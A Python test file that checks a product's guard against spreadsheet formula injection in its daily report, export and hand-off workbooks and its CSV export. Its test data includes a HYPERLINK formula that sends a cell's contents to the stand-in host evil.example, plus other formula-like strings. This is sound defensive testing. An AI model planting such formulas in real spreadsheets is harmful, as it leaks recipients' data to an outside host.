"""One guard for every workbook the product writes: applicant text that starts like a formula
(=, +, -, @, tab, CR) is stored as text with Excel's quote prefix — in the daily 汇总表, the export and
the hand-off's 公示名单 — and gets a leading ' in the CSV export."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mailintake.office.candidates import Candidate, TableList
from mailintake.office.handoff import write_workbook
from mailintake.report.build import build_report
from mailintake.report.export import export_csv, export_xlsx
from mailintake.util.spreadsheet import csv_text, looks_like_formula
from parsers.definitions import load_definitions
from tests.support.fixtures.env import Env
from tests.support.report_story import Story, at, report_settings, t34

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B4,"王五")'
STARTS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def guarded_names(path: Path, sheet: str, column_header: str, header_row: int) -> list[tuple[str, str, bool]]:
    ws = load_workbook(path)[sheet]
    header = [c.value for c in ws[header_row]]
    col = header.index(column_header) + 1
    cells = [ws.cell(row=r, column=col) for r in range(header_row + 1, ws.max_row + 1)]
    return [(c.value, c.data_type, bool(c.quotePrefix)) for c in cells if looks_like_formula(c.value)]


def test_predicate_and_csv_text() -> None:
    assert [looks_like_formula(s) for s in STARTS] == [True] * 6
    assert [looks_like_formula(s) for s in ("王五", "1=1", "", None, 5)] == [False] * 5
    assert csv_text(HYPERLINK) == "'" + HYPERLINK
    assert (csv_text("-5"), csv_text("+86 512"), csv_text("-x"), csv_text(7)) == ("-5", "+86 512", "'-x", 7)


def test_daily_report_and_export_workbooks(tmp_path: Path, env: Env) -> None:
    settings = report_settings(env)
    with env.session_factory() as session:
        story = Story(session)
        for n, name in enumerate(STARTS):
            story.mail("accepted", at(16, 9, n), f"p{n}@example.cn", forms=[t34(3, name, "苏州市吴中区行政审批局")])
        session.commit()
        files = build_report(settings, session, now=at(19, 8))
        exported = export_xlsx(session, tmp_path / "export.xlsx", settings=settings)
        buffer = io.StringIO()
        export_csv(session, buffer, load_definitions())
        session.commit()
    expected = sorted((s.replace("\r", ""), "s", True) for s in STARTS)  # openpyxl drops no CR; XML keeps it
    for path in (files.xlsx_path, exported):
        no_formulas(Path(path))
        found = guarded_names(Path(path), "表3 窗口服务明星", "姓名", 1)
        got = sorted((v.replace("\r", ""), t, q) for v, t, q in found)
        assert got == expected
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert sorted(r["name"] for r in rows) == sorted(csv_text(s) for s in STARTS)


def test_handoff_workbook(tmp_path: Path, env: Env) -> None:
    settings = report_settings(env)
    table = TableList(3, "窗口服务明星", "表3", "")
    for seq, name in enumerate(STARTS, start=1):
        table.candidates.append(Candidate(seq, 3, seq, name, "某单位", "@某单位 科员", "", "", None, None, "docx"))
    path = write_workbook([table], settings, tmp_path / "公示名单.xlsx")
    no_formulas(path)
    ws = load_workbook(path)["表3 窗口服务明星"]
    cells = [ws.cell(row=r, column=2) for r in range(3, 3 + len(STARTS))]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(s, "s", True) for s in STARTS]
    assert {(ws.cell(row=r, column=3).value, ws.cell(row=r, column=3).quotePrefix) for r in range(3, 9)} == {
        ("@某单位 科员", True)}


@pytest.mark.parametrize("text", ["王五", "1=1"])
def test_ordinary_text_has_no_prefix(tmp_path: Path, env: Env, text: str) -> None:
    candidate = Candidate(1, 3, 1, text, "某单位", "", "", "", None, None, "docx")
    table = TableList(3, "窗口服务明星", "表3", "", [candidate])
    ws = load_workbook(write_workbook([table], report_settings(env), tmp_path / "w.xlsx"))["表3 窗口服务明星"]
    assert (ws["B3"].value, ws["B3"].quotePrefix) == (text, False)
